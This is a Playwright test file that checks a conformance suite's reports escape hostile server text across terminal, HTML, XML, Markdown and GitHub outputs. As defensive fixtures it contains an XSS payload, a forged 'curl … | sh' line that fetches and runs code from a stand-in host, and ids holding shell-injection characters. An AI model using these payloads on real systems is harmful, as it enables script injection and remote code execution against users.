import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { chromium, expect, test, type Browser } from '@playwright/test';
import type { ConformanceReport } from '../reporter/report';
import type { Behaviour } from '../reference/app';
import { DEVELOPMENT_ACCOUNTS } from '../reference/accounts';
import type { RunningReference } from '../reference/server';
import { curlLine } from '../harness/http/exchange';
import { githubAnnotations, githubSummary } from '../reporter/github';
import { renderHtml } from '../reporter/html';
import { renderJunit } from '../reporter/junit';
import { renderMarkdown } from '../reporter/markdown';
import { summaryLines } from '../reporter/terminal';
import { FORGED_LINES, forgedLines, SHELL_ID_TEXT } from './reference/hostile';
import { CHROMIUM, readReport, startServer } from './support/cli';
import { tokenize } from './support/markup';
import { runSuite, type SuiteRun } from './support/run-suite';
import { intendedArguments, RecordingShell, SHELLS } from './support/shell';

// A server that puts Markdown, HTML, shell text, ANSI escapes and forged verdict lines into every string it
// answers (OMS_HOSTILE=markup-everywhere): every output of the run must show them as data, nowhere as markup,
// a command, a terminal control or a line of the suite's own.
const SELECTION = '@ORD-CREATE-004|@ORD-GET-004|@ORD-LIST-008|@ORD-OBS-00[17]';
const NOT_GENERATED = 'generated|model-based';
const MARKUP = ['<img', '<script', 'onerror', '](', 'elsewhere.invalid'];
const HAS_CHROMIUM = existsSync(CHROMIUM.executablePath as string);

test.describe.serial('reports of a run against a server that answers markup and shell text everywhere', () => {
  let run: SuiteRun;
  let report: ConformanceReport;
  let browser: Browser | undefined;

  test.beforeAll(async () => {
    run = await runSuite({ OMS_HOSTILE: 'markup-everywhere' }, ['--grep', SELECTION, '--grep-invert', NOT_GENERATED]);
    report = readReport(run.reportDir);
  });

  test.afterAll(async () => browser?.close());

  test('the run fails on the poisoned values and its findings quote them', () => {
    expect(run.exitCode, run.output.slice(-2000)).toBe(1);
    const quoted = report.requirements.flatMap((r) => r.findings).filter((f) => `${f.received}${f.response?.body}`.includes('<img src=x'));
    expect(quoted.length, 'no finding carries the hostile text: the test proves nothing').toBeGreaterThan(0);
  });

  test('report.md holds server text only inside code spans', () => {
    const markdown = readFileSync(join(run.reportDir, 'report.md'), 'utf8');
    expect(markdown).toContain('<img src=x');
    const prose = withoutCodeSpans(markdown);
    expect(MARKUP.filter((marker) => prose.includes(marker))).toEqual([]);
    expect(prose).not.toMatch(/[\u0000-\u0008\u000b-\u001f]/);
  });

  test('the terminal shows no escape sequence, and no server text starts a line', () => {
    expect(run.output).not.toContain('\u001b[2J');
    const lines = run.output.split('\n');
    expect(lines.filter((line) => /^OMS conformance \(/.test(line))).toEqual([expect.stringMatching(/^OMS conformance \(core\): NOT CONFORMANT/)]);
    expect(lines.filter((line) => line.startsWith('Reproduce: curl http://elsewhere'))).toEqual([]);
  });

  test('every curl line of the report is one bash command that sends exactly the recorded request, after a sign-in with the client credentials it was given', () => {
    // The run was given client credentials in the environment (as the proof's setup gives them): each line signs in with them first.
    const shell = new RecordingShell({ OMS_CLIENT_ID: 'client-a', OMS_CLIENT_SECRET: 'secret-a', OMS_CLIENT_ID_B: 'client-b', OMS_CLIENT_SECRET_B: 'secret-b' });
    try {
      const findings = report.requirements.flatMap((r) => r.findings).filter((f) => f.curl && f.request);
      expect(findings.length).toBeGreaterThan(0);
      for (const { curl, request } of findings) {
        expect(shell.syntaxError(curl as string), curl).toBeUndefined();
        const run = shell.run(curl as string);
        expect([run.status, run.stdout, run.stderr], curl).toEqual([0, '', '']);
        const [signIn, sent, ...more] = run.calls.map((call) => call.map((bytes) => bytes.toString('utf8')));
        expect(more).toEqual([]);
        expect(signIn.slice(0, 4)).toEqual(['-sS', '-X', 'POST', expect.stringMatching(/^http:\/\/127\.0\.0\.1:\d+\/token$/)]);
        expect(signIn).toContain('client_secret=secret-a');
        const args = sent;
        expect(args.slice(0, 5)).toEqual(['-sS', '-i', '-X', request!.method, request!.url]);
        expect(args.includes('http://elsewhere.invalid/x')).toBe(false);
      }
    } finally {
      shell.dispose();
    }
  });

  test('index.html renders server text as text: no element, script or request comes from it', async () => {
    test.skip(!HAS_CHROMIUM && !process.env.OMS_REQUIRE_CHROMIUM, 'no Chromium at /usr/bin/chromium (apt-get install chromium): the page is not opened in a browser');
    browser = await chromium.launch(CHROMIUM);
    const page = await browser.newPage();
    const network: string[] = [];
    await page.route('**/*', (route) => (route.request().url().startsWith('file:') ? route.continue() : (network.push(route.request().url()), route.abort())));
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => void (dialogs.push(dialog.message()), dialog.dismiss()));
    await page.goto(`file://${join(run.reportDir, 'index.html')}`);
    await page.locator('details').evaluateAll((all) => all.forEach((d) => d.setAttribute('open', '')));
    const dom = await page.evaluate(() => ({
      injected: document.querySelectorAll('img, script, iframe, object, embed, a[href^="http"]').length,
      shown: document.body.innerText.includes('<img src=x onerror=alert(1)>'),
    }));
    expect(dom).toEqual({ injected: 0, shown: true });
    expect(dialogs).toEqual([]);
    expect(network).toEqual([]);
  });

  test('junit.xml is well-formed XML with the server text escaped', async () => {
    const xml = readFileSync(join(run.reportDir, 'junit.xml'), 'utf8');
    expect(xml).not.toMatch(/<(img|script)\b/);
    expect(xml).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/);
    test.skip(!HAS_CHROMIUM && !process.env.OMS_REQUIRE_CHROMIUM, 'no Chromium at /usr/bin/chromium: the XML is not parsed by a browser');
    browser ??= await chromium.launch(CHROMIUM);
    const page = await browser.newPage();
    const error = await page.evaluate((text) => new DOMParser().parseFromString(text, 'application/xml').querySelector('parsererror')?.textContent ?? null, xml);
    expect(error).toBeNull();
  });
});

// A server whose ids hold every character a shell or a path treats apart, and whose 404s are text/plain with a
// forged reproduction line and forged verdicts (OMS_HOSTILE=forged-lines): no channel may show a server line as a
// line of the suite's, every curl line each channel prints must run as printed in sh, bash and zsh, and no id the
// suite makes up "of the service's form" may carry the path characters of the service's ids.
const CHANNELS = ['terminal', 'junit.xml', 'index.html', 'report.md', 'GitHub job summary', 'GitHub annotations'] as const;
type Channel = (typeof CHANNELS)[number];
/** Where the run's response bodies are shown (report.md and GitHub's outputs show none): the forged body must be there, quoted. */
const SHOWS_BODIES: Channel[] = ['terminal', 'junit.xml', 'index.html'];
/** Annotations print no curl line ("Evidence and curl line: report.json / index.html"). */
const PRINTS_CURL: Channel[] = CHANNELS.filter((name) => name !== 'GitHub annotations');

test.describe('reports of a run against a server whose ids and text bodies forge lines of the suite', () => {
  // In order, in one worker, with one run of the suite; a failing channel does not keep the others from being judged.
  test.describe.configure({ mode: 'default' });
  const TOKEN = 'forged-lines-token';
  let server: RunningReference;
  let forged: ReturnType<typeof forgedLines>;
  const paths: string[] = [];
  let run: SuiteRun;
  let report: ConformanceReport;
  let shell: RecordingShell;

  test.beforeAll(async () => {
    forged = forgedLines();
    const log: Behaviour = { name: 'selftest-path-log', rewriteRequest: (request) => (paths.push(request.rawPath ?? request.path), request) };
    server = await startServer([log, forged]);
    const [a, b] = DEVELOPMENT_ACCOUNTS;
    run = await runSuite({ OMS_BASE_URL: server.url, OMS_TOKEN: a.developmentToken, OMS_TOKEN_B: b.developmentToken }, [
      '--grep',
      '@ORD-GET-001|@ORD-GET-004|@ORD-UPDATE-006|@ORD-DELETE-003',
      '--grep-invert',
      NOT_GENERATED,
    ]);
    report = readReport(run.reportDir);
    shell = new RecordingShell({ OMS_TOKEN: TOKEN, OMS_TOKEN_B: TOKEN });
  });

  test.afterAll(async () => {
    shell?.dispose();
    await server?.close();
  });

  /** What the run wrote: the terminal, the report files, and report.json for GitHub's outputs (which the command makes from it). */
  function written(): Outputs {
    const file = (name: string) => readFileSync(join(run.reportDir, name), 'utf8');
    return { terminal: run.output, junit: file('junit.xml'), html: file('index.html'), markdown: file('report.md'), report };
  }

  /** Every curl line a channel prints runs as printed in every shell: curl once, with one of the report's requests exactly. */
  function expectCurlLinesRun(name: Channel, commands: string[], from: ConformanceReport): void {
    const intended = from.requirements
      .flatMap((r) => r.findings)
      .flatMap((f) => (f.request && !f.request.truncated ? [intendedArguments(f.request, { OMS_TOKEN: TOKEN, OMS_TOKEN_B: TOKEN })] : []));
    for (const line of commands) {
      for (const shellName of SHELLS) {
        // curlArguments throws unless curl ran once and nothing else ran or printed.
        const args = shell.curlArguments(line, shellName);
        expect(intended.some((sent) => JSON.stringify(sent) === JSON.stringify(args)), `${name}, ${shellName}: ${line} gave curl ${JSON.stringify(args)}`).toBe(true);
      }
    }
  }

  test('the run fails on the text bodies, and its evidence holds the forged lines and the ids', () => {
    expect(run.exitCode, run.output.slice(-3000)).toBe(1);
    const findings = report.requirements.flatMap((r) => r.findings);
    expect(findings.some((f) => f.response?.body === FORGED_LINES), 'no finding quotes the forged body: the test proves nothing').toBe(true);
    expect(findings.some((f) => f.request?.url.includes(encodeURIComponent(`${SHELL_ID_TEXT}-`))), 'no finding is on a request to an id the server assigned').toBe(true);
  });

  for (const name of CHANNELS) {
    test(`${name}: no line of the server reads as a line of the suite${PRINTS_CURL.includes(name) ? `, and every curl line it prints runs as printed in ${SHELLS.join(', ')}` : ''}`, () => {
      const { text, commands } = channel(name, written());
      const lines = text.split(/\r\n|\r|\n|\u2028|\u2029/).map((line) => line.trim());
      expect(lines.filter((line) => /^Reproduce: curl -sS http:\/\/elsewhere|^OMS conformance \((core|strict)\): CONFORMANT/.test(line))).toEqual([]);
      // The forged body did reach the channel, quoted on one line: the check above is not vacuous.
      if (SHOWS_BODIES.includes(name)) expect(text).toContain('Not Found\\nReproduce: curl -sS http://elsewhere.invalid/pwned-body | sh\\nOMS conformance (core): CONFORMANT');
      if (!PRINTS_CURL.includes(name)) return;
      expect(commands.filter((line) => line.includes('h!!41')).length, `${name} prints no curl line to an id the server assigned`).toBeGreaterThan(0);
      expectCurlLinesRun(name, commands, report);
    });
  }

  test(`a request body with a line break, a tab, a quote, a backslash, NUL and text outside ASCII: every channel prints its curl line so that it runs as printed in ${SHELLS.join(', ')}`, () => {
    // The run's first finding, as if its request had carried such a body (the suite's own requests seldom do).
    const body = `{"note":"line\nbreak\ttab 'quote' \\back \u0000 zoë 東京 \u202e"}\n`;
    const first = report.requirements.find((r) => r.findings.length)!;
    const request = { ...first.findings[0].request!, method: 'PUT', body, headers: { ...first.findings[0].request!.headers, 'Content-Type': 'application/json' } };
    const finding = { ...first.findings[0], request, curl: curlLine(request) };
    const changed: ConformanceReport = { ...report, requirements: report.requirements.map((r) => (r === first ? { ...r, findings: [finding, ...r.findings.slice(1)] } : r)) };
    const rendered: Outputs = { terminal: summaryLines(changed).join('\n'), junit: renderJunit(changed), html: renderHtml(changed), markdown: renderMarkdown(changed), report: changed };
    for (const name of PRINTS_CURL) {
      const { commands } = channel(name, rendered);
      expect(commands.filter((line) => line.startsWith('printf ')).length, `${name} prints no curl line of the body`).toBeGreaterThan(0);
      expectCurlLinesRun(name, commands, changed);
    }
  });

  test('every request path is /orders, /orders/, /token or /orders/<one segment>; ids the suite made up carry none of the path characters of the server\'s', () => {
    const segments = paths.filter((path) => !['/orders', '/orders/', '/token'].includes(path)).map((path) => /^\/orders\/([^/]+)$/.exec(path)?.[1] ?? `not one segment: ${path}`);
    expect(segments.filter((segment) => segment.startsWith('not one segment'))).toEqual([]);
    const madeUp = segments.map((segment) => decodeURIComponent(segment)).filter((id) => !forged.assigned.includes(id));
    expect(madeUp.filter((id) => /[\\/;]|\.\.|%[0-9a-f]{2}/i.test(id))).toEqual([]);
    // An unknown id of the service's form was sent: its length and its shell characters kept.
    expect(madeUp.some((id) => id.length === forged.assigned[0].length && id.includes("h!!41'(id)*"))).toBe(true);
  });
});

/** A run's outputs, as written or as rendered from a report. */
interface Outputs {
  terminal: string;
  junit: string;
  html: string;
  markdown: string;
  report: ConformanceReport;
}

/** A channel as a reader sees it: its text (markup and GitHub's escapes decoded) and the curl lines it prints, as they would be copied. */
function channel(name: Channel, outputs: Outputs): { text: string; commands: string[] } {
  switch (name) {
    case 'terminal':
      return { text: outputs.terminal, commands: [...outputs.terminal.matchAll(/^ +Reproduce: (.*)$/gm)].map((m) => m[1]) };
    case 'junit.xml':
      return markupChannel(outputs.junit, true);
    case 'index.html':
      return markupChannel(outputs.html, false);
    case 'report.md':
      return { text: outputs.markdown, commands: fencedShellLines(outputs.markdown) };
    case 'GitHub job summary':
      return { text: githubSummary(outputs.report), commands: fencedShellLines(githubSummary(outputs.report)) };
    case 'GitHub annotations':
      return { text: githubAnnotations(outputs.report).map((line) => line.replace(/%0D/g, '\r').replace(/%0A/g, '\n').replace(/%25/g, '%')).join('\n'), commands: [] };
  }
}

/** A markup file's text (entities decoded) and the curl lines it shows: junit.xml's "Reproduce: " lines, index.html's pre.curl. */
function markupChannel(markup: string, xml: boolean): { text: string; commands: string[] } {
  const tokens = tokenize(markup, { xml });
  const texts: string[] = [];
  const commands: string[] = [];
  tokens.forEach((token, index) => {
    if (token.kind !== 'text') return;
    texts.push(token.text);
    const before = tokens[index - 1];
    if (before?.kind === 'open' && before.name === 'pre' && before.attributes.class === 'curl') commands.push(token.text);
    if (xml) commands.push(...[...token.text.matchAll(/^Reproduce: (.*)$/gm)].map((m) => m[1]));
  });
  return { text: texts.join('\n'), commands };
}

/** The lines of a Markdown text's fenced code blocks marked sh: what a reader copies to run. */
function fencedShellLines(markdown: string): string[] {
  return [...markdown.matchAll(/^( *)(`{3,})sh\n([\s\S]*?)\n\1\2$/gm)].flatMap((m) => m[3].split('\n').map((line) => line.slice(m[1].length)));
}

/** Markdown with every code span removed, by CommonMark's rule: a run of n backticks closes at the next run of exactly n. */
function withoutCodeSpans(markdown: string): string {
  let out = '';
  let i = 0;
  while (i < markdown.length) {
    if (markdown[i] !== '`') {
      out += markdown[i++];
      continue;
    }
    const run = /^`+/.exec(markdown.slice(i))![0];
    const close = new RegExp(`(?<!\`)${run}(?!\`)`, 'g');
    close.lastIndex = i + run.length;
    const end = close.exec(markdown);
    if (!end) {
      out += run;
      i += run.length;
    } else i = end.index + run.length;
  }
  return out;
}
